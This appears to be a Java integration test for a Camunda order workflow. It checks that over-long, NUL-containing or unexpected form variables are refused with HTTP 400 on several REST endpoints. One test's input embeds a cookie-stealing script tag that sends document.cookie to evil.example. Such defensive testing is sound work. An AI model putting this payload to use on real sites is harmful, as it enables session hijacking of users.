package org.yizhan.camunda.forms;

import static org.assertj.core.api.Assertions.assertThat;
import static org.yizhan.order.OrderProcess.TASK_ACCEPT_ORDER;

import java.util.ArrayList;
import java.util.List;

import com.fasterxml.jackson.databind.ObjectMapper;
import org.camunda.bpm.engine.RuntimeService;
import org.camunda.bpm.engine.TaskService;
import org.camunda.bpm.engine.task.Task;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.yizhan.StationTest;
import org.yizhan.order.OrderProcess;
import org.yizhan.platform.security.StationAccess;
import org.yizhan.support.StationHttp;
import org.yizhan.support.StationHttp.Response;
import org.yizhan.support.TasklistSession;

/**
 * The form rules and the variable limits over HTTP, on the order's "Accept order" task, with the demo volunteer's real
 * credentials: every URL spelling and both engine APIs reach the engine's check and get a 400 naming the field.
 */
@StationTest
class FormRulesHttpIT {

  private static final ObjectMapper JSON = new ObjectMapper();
  private static final String DECLINE_NOTE_TOO_LONG =
      "给居民的说明 (Explanation for the resident) 最多 400 个字 (may be at most 400 characters)";

  @LocalServerPort int port;
  @Autowired TaskService tasks;
  @Autowired RuntimeService runtime;

  @Test
  void declineNoteOf494CharactersWithAScriptTagIsRefusedOnEveryUrlSpellingAndTheTaskStaysOpen() {
    Task accept = acceptTask();
    String note = "<script>document.location='https://evil.example/?'+document.cookie</script>";
    note = note + "拒".repeat(494 - note.length());
    String body = declining(note);

    for (String path : List.of("/complete", "/submit-form")) {
      Response refused = volunteer().post("/engine-rest/task/" + accept.getId() + path, body);
      assertThat(refused.status()).as(path + ": " + refused.text()).isEqualTo(400);
      assertThat(refused.json().get("message").asText()).as(path).isEqualTo(DECLINE_NOTE_TOO_LONG);
      // The same with a trailing slash is refused before it reaches the engine (the request firewall).
      assertThat(volunteer().post("/engine-rest/task/" + accept.getId() + path + "/", body).status()).isEqualTo(400);
    }
    Response matrix = volunteer().post("/engine-rest/task/" + accept.getId() + "/complete;x=1", body);
    assertThat(matrix.status()).as(matrix.text()).isEqualTo(400);
    Response tasklist = TasklistSession.login(port, "wang.fang", "demo")
        .postToEngine("/task/" + accept.getId() + "/submit-form", body);
    assertThat(tasklist.status()).as(tasklist.text()).isEqualTo(400);
    assertThat(tasklist.json().get("message").asText()).isEqualTo(DECLINE_NOTE_TOO_LONG);

    assertStillOpenWithNothingWritten(accept);
  }

  @Test
  void fiveThousandCharactersInAFieldWithoutMaxLengthOrInAnExtraVariableAreABadRequestNotAServerError() {
    Task accept = acceptTask();

    Response inField = volunteer().post("/engine-rest/task/" + accept.getId() + "/complete", """
        {"variables": {"acceptDecision": {"value": "DECLINE"}, "declineReason": {"value": "%s"}}}"""
        .formatted("x".repeat(5000)));
    assertThat(inField.status()).as(inField.text()).isEqualTo(400);
    assertThat(inField.json().get("message").asText())
        .isEqualTo("declineReason 最多 4000 个字 (may be at most 4000 characters; this one has 5000)");

    Response inExtra = TasklistSession.login(port, "wang.fang", "demo").postToEngine(
        "/task/" + accept.getId() + "/complete", """
        {"variables": {"acceptDecision": {"value": "ACCEPT"}, "remark": {"value": "%s"}}}"""
        .formatted("备".repeat(5000)));
    assertThat(inExtra.status()).as(inExtra.text()).isEqualTo(400);
    assertThat(inExtra.json().get("message").asText()).as("a variable that is no field of the form is refused first")
        .contains("remark is not a field of this task's form");

    assertStillOpenWithNothingWritten(accept);
  }

  @Test
  void variableEndpointsRefuseTextTheDatabaseCannotHoldWith400() {
    Task accept = acceptTask();
    String tooLong = "{\"value\": \"" + "x".repeat(5000) + "\", \"type\": \"String\"}";

    // Writing a task's variables one by one is not in a volunteer's calls (security/engine-api-access.yaml); the
    // limits hold for whoever may, here the administrator.
    Response put = admin().put("/engine-rest/task/" + accept.getId() + "/variables/x", tooLong);
    assertThat(put.status()).as(put.text()).isEqualTo(400);
    assertThat(put.json().get("message").asText()).startsWith("x 最多 4000 个字");

    Response putLocal = admin().put("/engine-rest/task/" + accept.getId() + "/localVariables/x", tooLong);
    assertThat(putLocal.status()).as(putLocal.text()).isEqualTo(400);

    Response modify = admin().post("/engine-rest/process-instance/" + accept.getProcessInstanceId() + "/variables",
        "{\"modifications\": {\"x\": " + tooLong + ", \"y\": {\"value\": \"fine\"}}}");
    assertThat(modify.status()).as(modify.text()).isEqualTo(400);
    assertThat(modify.json().get("message").asText()).startsWith("x 最多 4000 个字");

    Response longName = admin().put("/engine-rest/task/" + accept.getId() + "/variables/" + "n".repeat(300),
        "{\"value\": \"short\"}");
    assertThat(longName.status()).as(longName.text()).isEqualTo(400);
    assertThat(longName.json().get("message").asText())
        .isEqualTo("变量名最多 255 个字符 (a variable name may be at most 255 characters)");

    Response longNameOfANumber = admin().put("/engine-rest/task/" + accept.getId() + "/variables/"
        + "n".repeat(300), "{\"value\": 5, \"type\": \"Integer\"}");
    assertThat(longNameOfANumber.status()).as(longNameOfANumber.text()).isEqualTo(400);

    assertThat(runtime.getVariables(accept.getProcessInstanceId())).doesNotContainKeys("x", "y");
    List<String> shown = new ArrayList<>(List.of("orderSummary", "servicesSummary", "total", "totalText",
        OrderProcess.HAND_OVER_TEXT));
    assertThat(tasks.getVariablesLocal(accept.getId())).as("what the task shows, set when it was created")
        .containsKeys(shown.toArray(String[]::new));
    shown.addAll(StationAccess.TASK_CARD_VARIABLES);
    assertThat(tasks.getVariablesLocal(accept.getId()).keySet()).as("only what the task and its card show")
        .isSubsetOf(shown);
  }

  @Test
  void nulCharacterIsRefusedWith400() throws Exception {
    Task accept = acceptTask();
    String withNul = JSON.writeValueAsString("before\u0000after");

    Response put = admin().put("/engine-rest/task/" + accept.getId() + "/variables/x",
        "{\"value\": " + withNul + "}");
    assertThat(put.status()).as(put.text()).isEqualTo(400);
    assertThat(put.json().get("message").asText()).isEqualTo("x 不能含 NUL 字符 (must not contain the NUL character)");

    Response complete = volunteer().post("/engine-rest/task/" + accept.getId() + "/complete",
        "{\"variables\": {\"acceptDecision\": {\"value\": \"ACCEPT\"}, \"note\": {\"value\": " + withNul + "}}}");
    assertThat(complete.status()).as(complete.text()).isEqualTo(400);

    assertStillOpenWithNothingWritten(accept);
  }

  @Test
  void stationApiAnswersAValueTheDatabaseCannotHoldWith400AndCancelsNothing() throws Exception {
    Task accept = acceptTask();
    String orderNo = (String) runtime.getVariable(accept.getProcessInstanceId(), OrderProcess.ORDER_NO);
    String statusBefore = volunteer().get("/api/orders/" + orderNo).json().get("status").asText();

    Response cancel = volunteer().post("/api/orders/" + orderNo + "/cancel",
        "{\"reason\": " + JSON.writeValueAsString("Son\u0000 brought rice") + "}");

    assertThat(cancel.status()).as(cancel.text()).isEqualTo(400);
    assertThat(cancel.json().get("error").asText())
        .isEqualTo("cancelReason 不能含 NUL 字符 (must not contain the NUL character)");
    assertThat(volunteer().get("/api/orders/" + orderNo).json().get("status").asText()).isEqualTo(statusBefore)
        .isNotEqualTo("CANCELLED");
    assertThat(tasks.createTaskQuery().taskId(accept.getId()).count()).isOne();
  }

  @Test
  void completionKeepingTheRulesStillGoesThroughOnBothApis() {
    Task first = acceptTask();
    Response declined = volunteer().post("/engine-rest/task/" + first.getId() + "/complete",
        declining("Out of rice today, sorry (今天缺货) " + "拒".repeat(300)));
    assertThat(declined.status()).as(declined.text()).isEqualTo(204);

    Task second = acceptTask();
    Response accepted = TasklistSession.login(port, "wang.fang", "demo")
        .postToEngine("/task/" + second.getId() + "/submit-form",
            "{\"variables\": {\"acceptDecision\": {\"value\": \"ACCEPT\"}}}");
    assertThat(accepted.status()).as(accepted.text()).isEqualTo(204);

    assertThat(tasks.createTaskQuery().taskId(first.getId()).count()).isZero();
    assertThat(tasks.createTaskQuery().taskId(second.getId()).count()).isZero();
  }

  // --- helpers -----------------------------------------------------------------------------------------------------

  private StationHttp volunteer() {
    return StationHttp.as(port, "wang.fang", "demo");
  }

  private StationHttp admin() {
    return StationHttp.as(port, "admin", "admin");
  }

  /** A fresh order's "Accept order" task, claimed by the volunteer. */
  private Task acceptTask() {
    Response placed = volunteer().post("/api/orders", """
        {"residentId": "R-0002", "items": [{"sku": "RICE-5KG", "quantity": 1}]}""");
    assertThat(placed.status()).as(placed.text()).isEqualTo(201);
    Task task = tasks.createTaskQuery().processInstanceId(placed.json().get("processInstanceId").asText())
        .taskDefinitionKey(TASK_ACCEPT_ORDER).singleResult();
    Response claimed = volunteer().post("/engine-rest/task/" + task.getId() + "/claim", "{\"userId\": \"wang.fang\"}");
    assertThat(claimed.status()).as(claimed.text()).isEqualTo(204);
    return task;
  }

  private static String declining(String note) {
    try {
      return "{\"variables\": {\"acceptDecision\": {\"value\": \"DECLINE\"}, \"declineReason\": {\"value\": \"OTHER\"}, "
          + "\"declineNote\": {\"value\": " + JSON.writeValueAsString(note) + "}}}";
    } catch (com.fasterxml.jackson.core.JsonProcessingException e) {
      throw new IllegalStateException(e);
    }
  }

  private void assertStillOpenWithNothingWritten(Task task) {
    assertThat(tasks.createTaskQuery().taskId(task.getId()).count()).as("the task stays open").isOne();
    assertThat(runtime.getVariables(task.getProcessInstanceId()))
        .doesNotContainKeys("acceptDecision", "declineReason", "declineNote", "remark", "note", "x");
  }
}
